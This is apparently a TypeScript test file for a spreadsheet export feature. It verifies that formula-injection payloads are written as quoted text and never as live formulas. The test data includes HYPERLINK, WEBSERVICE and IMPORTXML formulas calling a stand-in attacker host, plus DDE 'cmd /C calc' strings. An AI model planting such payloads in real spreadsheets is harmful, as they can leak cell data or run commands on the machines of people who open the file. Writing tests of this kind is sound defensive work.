import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import type { Column, ExportRow } from '../../../../core/export/format.ts';
import { readXlsx, sheetCells } from '../../../suites/export/xlsx-under-test.ts';
import { cellsInLibreOffice, hasLibreOffice } from './spreadsheet-program.ts';
import { excelJsWorkbook, partsOf, writeWorkbook } from './workbook.ts';

const COMMANDS = ['1+1', 'SUM(A1:A9)', 'HYPERLINK("http://evil.example?x="&A1,"click")', "cmd|' /C calc'!A0"];
const MORE_COMMANDS = [
  'WEBSERVICE("http://evil.example")',
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
];
const STARTS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '＝', '＋', '－', '＠'];
/** At least the 60 of the promise. */
const PAYLOADS = [...COMMANDS, ...MORE_COMMANDS].flatMap((command) => STARTS.map((start) => start + command));

describe('formulas (E1)', () => {
  const asTitles = PAYLOADS.map((title, index): Column => ({ id: `x-${index}`, title, type: 'text' }));
  const payloadRows: ExportRow[] = [PAYLOADS, PAYLOADS.toReversed()];

  it('never come of text: in cells, titles, statistics and metadata', async () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(60);
    const columns = asTitles.map((column): Column => ({ ...column, countBy: 'value' }));
    const context = { author: '=1+1', locale: '@SUM(A1)' };
    const { file } = await writeWorkbook({ columns, rows: payloadRows, context });
    for (const [name, part] of partsOf(file))
      if (name.includes('worksheets/')) expect(part.toString(), name).not.toMatch(/<f[ />]|hyperlink|ddeLink/);
    const workbook = readXlsx(file);
    for (const name of workbook.SheetNames)
      for (const cell of Object.values(workbook.Sheets[name] ?? {})) expect(cell).not.toHaveProperty('f');
    expect(sheetCells(workbook, 'Data')).toEqual([PAYLOADS, ...payloadRows]);
  });

  it('do not come of editing a cell either: it is text, quoted', async () => {
    const { file } = await writeWorkbook({ columns: asTitles, rows: payloadRows });
    const workbook = await excelJsWorkbook(file);
    workbook.getWorksheet('Data')?.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        expect(cell.numFmt).toBe('@');
      }),
    );
    const parts = partsOf(file);
    const formats = [
      ...(parts
        .get('xl/styles.xml')
        ?.toString()
        .match(/<cellXfs.*<\/cellXfs>/)?.[0]
        .matchAll(/<xf [^>]*>/g) ?? []),
    ];
    const styles =
      parts
        .get('xl/worksheets/sheet1.xml')
        ?.toString()
        .matchAll(/ s="(\d+)" t="inlineStr"/g) ?? [];
    for (const [, style] of styles) expect(formats[Number(style)]?.[0]).toContain('quotePrefix="1"');
  });

  it.skipIf(!hasLibreOffice)(
    `are not found by LibreOffice either${hasLibreOffice ? '' : ' (skipped: no soffice)'}`,
    async () => {
      const { file } = await writeWorkbook({ columns: asTitles, rows: payloadRows });
      expect(cellsInLibreOffice(file, 'Data')).toEqual([PAYLOADS, ...payloadRows]);
    },
  );
});
